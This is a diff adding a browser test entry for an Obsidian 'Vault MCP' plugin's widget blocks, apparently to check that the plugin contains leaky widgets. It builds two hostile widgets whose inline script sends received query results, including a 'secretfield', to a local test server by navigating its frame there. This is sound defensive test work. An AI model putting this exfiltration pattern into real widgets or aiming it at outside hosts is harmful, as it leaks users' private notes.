@@ -1,0 +1,74 @@
+/**
+ * Browser entry for the widget navigation test: the real `vault-mcp-widget` code block processor
+ * (registerWidgetBlocks) over an in-memory source, with two widgets that do what the verifier's
+ * widget did: on their first data they navigate their own frame to a local HTTP server
+ * (`window.vaultMcpWidgetPort`) with the data in the address. `leaky` goes to a page that loads
+ * completely; `slow` to a page whose response never ends (so its frame never fires a second
+ * `load`). Both remote pages report every message they receive back to the server.
+ * `window.vaultMcpWidget.changed()` plays a note change.
+ */
+import type { App, PluginManifest } from 'obsidian';
+import { createHostElement } from '../host/dom';
+import { HostPostProcessorContext } from '../host/markdown-render-child';
+import { Plugin } from '../host/plugin';
+import { registerWidgetBlocks, type WidgetSource } from '../../src/ui/widgets/widget-block';
+
+declare global {
+  interface Window {
+    vaultMcpWidgetPort: number;
+    vaultMcpWidget: { ctx: HostPostProcessorContext; changed: () => void };
+  }
+}
+
+const QUERY = 'WHERE status exists COLUMNS status, secretfield LIMIT 1000';
+
+/** A widget that sends the first data it gets to `http://127.0.0.1:<port>/<target>?d=...` by navigating its frame there. */
+function leavingWidget(port: number, target: string): string {
+  const manifest = JSON.stringify({ name: 'Project board', description: 'Open items', query: QUERY });
+  return (
+    `<!doctype html><html><head><script type="application/json" id="vault-mcp-widget">${manifest}</script></head><body>` +
+    `<p>board</p><script>addEventListener('message',e=>{if(e.data&&e.data.type==='vault-mcp-widget-data')` +
+    `location.href='http://127.0.0.1:${port}/${target}?d='+encodeURIComponent(JSON.stringify(e.data.result))})</script></body></html>`
+  );
+}
+
+async function main(): Promise<void> {
+  const listeners = new Set<() => void>();
+  const state = { runs: 0 };
+  const source: WidgetSource = {
+    async load(id) {
+      if (id === 'leaky') return { html: leavingWidget(window.vaultMcpWidgetPort, 'leak'), query: QUERY };
+      if (id === 'slow') return { html: leavingWidget(window.vaultMcpWidgetPort, 'stream'), query: QUERY };
+      return { error: `No widget '${id}' in the widgets folder.` };
+    },
+    async run() {
+      state.runs += 1;
+      return { columns: ['file.path', 'status', 'secretfield'], rows: [['Projects/Open.md', 'open', `fine-${state.runs}`]], total: 1 };
+    },
+    onNotesChanged(listener) {
+      listeners.add(listener);
+      return () => listeners.delete(listener);
+    },
+  };
+  const manifest: PluginManifest = {
+    id: 'vault-mcp',
+    name: 'Vault MCP',
+    version: '0.1.0',
+    minAppVersion: '1.11.4',
+    description: '',
+    author: '',
+  };
+  const plugin = new (class extends Plugin {})({} as App, manifest);
+  registerWidgetBlocks(plugin as unknown as import('obsidian').Plugin, source);
+  const note = createHostElement('div', 'markdown-preview-section');
+  document.getElementById('note')!.appendChild(note);
+  for (const id of ['leaky', 'slow']) {
+    const holder = note.createDiv({ attr: { id: `holder-${id}` } });
+    holder.createEl('pre').createEl('code', { cls: 'language-vault-mcp-widget', text: `${id}\n` });
+  }
+  const ctx = new HostPostProcessorContext('Notes/board.md');
+  for (const processor of plugin.markdownPostProcessors) await processor(note, ctx);
+  window.vaultMcpWidget = { ctx, changed: () => listeners.forEach((l) => l()) };
+}
+
+void main();
